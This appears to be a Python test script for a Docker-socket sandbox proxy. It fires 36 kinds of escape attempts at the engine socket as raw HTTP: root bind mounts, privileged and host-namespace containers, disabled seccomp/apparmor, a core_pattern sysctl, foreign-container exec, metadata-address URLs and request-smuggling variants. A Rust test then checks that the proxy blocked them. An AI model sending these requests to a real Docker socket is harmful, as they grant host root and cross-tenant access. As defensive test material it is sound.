"""The scoped-docker reference's 36 attacks, sent from inside a sandbox to its engine socket as
raw HTTP (so framing, duplicate keys and encodings are exactly as written). Prints one JSON
object: attack name -> list of HTTP statuses (0: the connection was closed without an answer).
The Rust test then checks at the engine that none of them had an effect.

argv[1]: JSON {"W": workspace, "F": foreign container id, "FX": foreign exec id,
               "O": an owned created container id, "FIMG": a foreign image, "FNET": a foreign network}
"""
import json, socket, sys

A = json.loads(sys.argv[1])
W, F, FX, O, FIMG, FNET = A["W"], A["F"], A["FX"], A["O"], A["FIMG"], A["FNET"]
SOCK = "/var/run/docker.sock"
IMG = A.get("IMG", "docksandbox/busybox:test")
results = {}


def raw(data):
    """Sends raw bytes on one connection; the statuses of every answer read."""
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(20)
    s.connect(SOCK)
    try:
        s.sendall(data)
    except OSError:
        pass  # answered (and closed) before the whole body was read: a refusal
    buf = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            buf += chunk
            if data.count(b"HTTP/1.1\r\n") <= buf.count(b"HTTP/1.1 "):
                # every request answered (bodies may still come: read briefly)
                s.settimeout(0.3)
    except (socket.timeout, OSError):
        pass
    s.close()
    out = []
    for line in buf.split(b"\r\n"):
        if line.startswith(b"HTTP/1.1 ") and line[9:12].isdigit():
            out.append(int(line[9:12]))
    return out or [0]


def req(method, path, body=None, ctype="application/json", extra=""):
    b = b"" if body is None else (body if isinstance(body, bytes) else body.encode())
    head = f"{method} {path} HTTP/1.1\r\nHost: docker\r\n{extra}"
    if ctype:
        head += f"Content-Type: {ctype}\r\n"
    head += f"Content-Length: {len(b)}\r\nConnection: close\r\n\r\n"
    return raw(head.encode() + b)


n = 0


def create(key, body, path=None, **kw):
    """A create attack, named atk-<n> so the test can look for it at the engine."""
    global n
    n += 1
    name = f"atk-{key}-{n}"
    p = path or f"/v1.41/containers/create?name={name}"
    if "?" in p and "name=" not in p:
        p += f"&name={name}"
    results.setdefault(key, []).extend(req("POST", p, body if isinstance(body, (str, bytes)) else json.dumps(body), **kw))


def hc(**h):
    return {"Image": IMG, "HostConfig": h}


create("01-bind-root", hc(Binds=["/:/h"]))
create("02-mount-root", hc(Mounts=[{"Type": "bind", "Source": "/", "Target": "/h"}]))
create("03-bind-dotdot", hc(Binds=[f"{W}/../../etc:/e"]))
create("04-bind-symlink", hc(Binds=[f"{W}/lnk:/h"]))
for key, opts in [("06-volume-device-root", {"type": "none", "o": "bind", "device": "/"}),
                  ("06-volume-device-disk", {"type": "ext4", "device": "/dev/sda1"})]:
    results[key] = req("POST", "/v1.41/volumes/create", json.dumps({"Name": "atk-" + key, "DriverOpts": opts}))
create("07-volume-driverconfig", hc(Mounts=[{"Type": "volume", "Source": "atk-vol7", "Target": "/v",
        "VolumeOptions": {"DriverConfig": {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/etc"}}}}]))
create("08-privileged", hc(Privileged=True))
create("09-top-level-hostconfig", {"Image": IMG, "Privileged": True, "Binds": ["/:/h"]})
create("10-lowercase-hostconfig", '{"Image":"%s","hostconfig":{"privileged":true}}' % IMG)
create("11-duplicate-keys", '{"Image":"%s","HostConfig":{"Privileged":false,"privileged":true,"Privileged":true}}' % IMG)
create("12-capadd-string", '{"Image":"%s","HostConfig":{"CapAdd":"sys_admin"}}' % IMG)
create("12-capadd-all", hc(CapAdd=["ALL"]))
create("12-capadd-prefixed", hc(CapAdd=["cap_sys_admin"]))
create("13-device", hc(Devices=[{"PathOnHost": "/dev/sda", "PathInContainer": "/dev/sda", "CgroupPermissions": "rwm"}]))
create("13-device-cgroup-rule", hc(DeviceCgroupRules=["a *:* rwm"]))
create("13-gpu", hc(DeviceRequests=[{"Driver": "", "Count": -1, "Capabilities": [["gpu"]]}]))
for mode in ["PidMode", "IpcMode", "UTSMode", "UsernsMode", "CgroupnsMode", "NetworkMode"]:
    create("14-host-" + mode, hc(**{mode: "host"}))
create("15-pid-container-F", hc(PidMode=f"container:{F}"))
create("15-net-container-F", hc(NetworkMode=f"container:{F}"))
for i, opt in enumerate(["seccomp=unconfined", "seccomp:unconfined", "apparmor=unconfined", "label=disable",
                         "disable", 'seccomp={"defaultAction":"SCMP_ACT_ALLOW"}']):
    create(f"16-security-opt-{i}", hc(SecurityOpt=[opt]))
create("17-masked-paths", hc(MaskedPaths=[]))
create("18-sysctl-kernel", hc(Sysctls={"kernel.core_pattern": "|/tmp/x"}))
create("18-cgroup-parent", hc(CgroupParent="/"))
create("18-runtime", hc(Runtime="nvidia"))
create("19-volumes-from-F", hc(VolumesFrom=[F]))
create("19-links-F", hc(Links=[f"{F}:db"]))
create("20-syslog", hc(LogConfig={"Type": "syslog", "Config": {"syslog-address": "udp://169.254.169.254:514"}}))
create("21-oom-kill-disable", hc(OomKillDisable=True))
create("21-oom-score-adj", hc(OomScoreAdj=-1000))
results["22-old-api-start"] = req("POST", f"/v1.23/containers/{O}/start", json.dumps({"Privileged": True, "Binds": ["/:/h"]}))
priv = json.dumps(hc(Privileged=True)).encode()
chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(priv), priv)
results["23-chunked"] = raw(b"POST /v1.41/containers/create?name=atk-23a HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + chunked)
create("23-auth-suffix", hc(Privileged=True), path="/v1.41/containers/create?a=/auth")
create("23-charset", hc(Privileged=True), ctype="application/json; charset=utf-8")
create("23-no-content-type", hc(Privileged=True), ctype=None)
big = json.dumps({"Image": IMG, "Labels": {"pad": "x" * (5 << 20)}, "HostConfig": {"Privileged": True}})
create("24-five-mib", big)
create("25-trailing-json", '{"Image":"%s"}{"HostConfig":{"Privileged":true}}' % IMG)
for key, path in [("26-double-slash", "//containers/create"), ("26-dot", "/v1.41/containers/./create"),
                  ("26-pct2f", "/v1.41/containers%2Fcreate"), ("26-pct252f", "/v1.41/containers%252Fcreate"),
                  ("26-v1.12", "/v1.12/containers/create")]:
    create(key, hc(Privileged=True), path=path + "?x=1")
ping = b"GET /_ping HTTP/1.1\r\nHost: d\r\n\r\n"
results["27-pipelined"] = raw(ping + b"POST /v1.41/containers/create?name=atk-27a HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(priv), priv))
results["27-cl-te"] = raw(b"POST /v1.41/containers/create?name=atk-27b HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + chunked)
results["28-exec-F"] = req("POST", f"/v1.41/containers/{F}/exec", json.dumps({"Cmd": ["touch", "/tmp/atk28"]}))
results["28-exec-start-FX"] = req("POST", f"/v1.41/exec/{FX}/start", json.dumps({"Detach": True}))
results["28-exec-O-privileged"] = req("POST", f"/v1.41/containers/{O}/exec", json.dumps({"Cmd": ["true"], "Privileged": True}))
results["29-F-json"] = req("GET", f"/v1.41/containers/{F}/json")
results["29-F-export"] = req("GET", f"/v1.41/containers/{F}/export")
results["29-F-archive-get"] = req("GET", f"/v1.41/containers/{F}/archive?path=/etc/hostname")
results["29-F-archive-put"] = req("PUT", f"/v1.41/containers/{F}/archive?path=/tmp", b"\0" * 1024, ctype="application/x-tar")
results["29-F-commit"] = req("POST", f"/v1.41/commit?container={F}&repo=atk-commit")
results["29-F-delete"] = req("DELETE", f"/v1.41/containers/{F}?force=1")
for key, q in [("31-build-net-host", "networkmode=host"), ("31-build-remote", "remote=http://169.254.169.254/"),
               ("31-build-cgroup-parent", "cgroupparent=/"), ("31-build-net-container", f"networkmode=container:{F}"),
               ("31-build-dup-networkmode", "networkmode=none&networkmode=host")]:
    results[key] = req("POST", f"/v1.41/build?{q}&t=atk-build", b"", ctype="application/x-tar")
results["31-build-form"] = req("POST", "/v1.41/build?t=atk-build", b"networkmode=host", ctype="application/x-www-form-urlencoded")
results["32-grpc"] = req("POST", "/v1.41/grpc", b"")
results["32-plugins-pull"] = req("POST", "/v1.41/plugins/pull?remote=atk", b"[]")
results["32-swarm-init"] = req("POST", "/v1.41/swarm/init", json.dumps({"ListenAddr": "0.0.0.0:2377"}))
results["32-services-create"] = req("POST", "/v1.41/services/create", json.dumps({"Name": "atk", "TaskTemplate": {"ContainerSpec": {"Image": IMG, "Mounts": [{"Type": "bind", "Source": "/", "Target": "/h"}]}}}))
results["33-macvlan"] = req("POST", "/v1.41/networks/create", json.dumps({"Name": "atk-macvlan", "Driver": "macvlan", "Options": {"parent": "eth0"}}))
results["33-bridge-name"] = req("POST", "/v1.41/networks/create", json.dumps({"Name": "atk-docker0", "Options": {"com.docker.network.bridge.name": "docker0"}}))
results["33-connect-foreign"] = req("POST", f"/v1.41/networks/{FNET}/connect", json.dumps({"Container": O}))
results["34-images-load"] = req("POST", "/v1.41/images/load", b"\0" * 1024, ctype="application/x-tar")
results["34-build-over-foreign"] = req("POST", f"/v1.41/build?t={FIMG}", b"", ctype="application/x-tar")
results["34-tag-foreign"] = req("POST", f"/v1.41/images/{FIMG}/tag?repo=atk-retag&tag=1")
results["34-from-src"] = req("POST", "/v1.41/images/create?fromSrc=http://169.254.169.254/x.tar&repo=atk-import")
create("35-rshared", hc(Binds=[f"{W}/x:/x:rshared"]))
create("35-spoofed-owner", {"Image": IMG, "Labels": {"io.docksandbox.owner": "someone-else"}, "HostConfig": {}})
create("36-host-ip", {"Image": IMG, "ExposedPorts": {"80/tcp": {}}, "HostConfig": {"PortBindings": {"80/tcp": [{"HostIp": "0.0.0.0", "HostPort": "18080"}]}}})
# Prunes last: they remove the sandbox's own stopped containers (O among them).
results["30-prune-volumes"] = req("POST", "/v1.41/volumes/prune")
results["30-prune-networks"] = req("POST", "/v1.41/networks/prune")
print(json.dumps(results))
